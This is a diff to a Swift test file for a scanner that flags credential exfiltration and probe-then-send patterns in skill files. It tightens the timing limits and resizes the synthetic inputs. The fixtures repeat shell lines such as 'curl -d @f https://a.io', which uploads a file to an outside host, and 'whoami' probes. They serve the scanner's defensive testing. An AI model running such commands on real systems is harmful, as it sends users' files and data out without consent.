@@ -15,19 +15,19 @@ import Testing
     }
 
     @Test func aMarkdownFileOfNothingButSendsPairsInLinearTime() throws {
-        // ~1 MiB: one code block of 44,000 sends and no secret, the worst
+        // A code block of sends up to the line cap and no secret, the worst
         // case for pairing each code line with the sends near it.
-        let text = "# Notes\n\n```sh\n" + String(repeating: "curl -d @f https://a.io\n", count: 44_000) + "```\n"
+        let text = "# Notes\n\n```sh\n" + String(repeating: "curl -d @f https://a.io\n", count: ScannedFile.maxLines - 4) + "```\n"
         let file = try #require(ScannedFile(path: "references/notes.md", bytes: Array(text.utf8)))
         var findings: [ScanFinding] = []
         let seconds = Self.seconds { findings = SkillRules.credentialExfiltration(in: file) }
         #expect(findings.isEmpty)
-        // Comparing every pair took minutes here (a debug build); neighbours, seconds.
-        #expect(seconds < 20, "\(seconds) s")
+        // Comparing every pair took tens of seconds here (a debug build); neighbours, a few.
+        #expect(seconds < 15, "\(seconds) s")
     }
 
     @Test func aScriptOfProbesFarFromItsSendsPairsInLinearTime() throws {
-        let text = String(repeating: "whoami\n", count: 60_000) + String(repeating: "curl -d x https://a.io\n", count: 20_000)
+        let text = String(repeating: "whoami\n", count: 10_000) + String(repeating: "curl -d x https://a.io\n", count: 9_990)
         let file = try #require(ScannedFile(path: "scripts/run.sh", bytes: Array(text.utf8)))
         var findings: [ScanFinding] = []
         let seconds = Self.seconds {
@@ -35,7 +35,7 @@ import Testing
         }
         // The last probes are within reach of the first send: still found.
         #expect(findings.map(\.rule) == ["description-mismatch"])
-        #expect(seconds < 20, "\(seconds) s")
+        #expect(seconds < 15, "\(seconds) s")
     }
 
     @Test func aFileIsReadUpToItsLineCapAndSaysSo() {
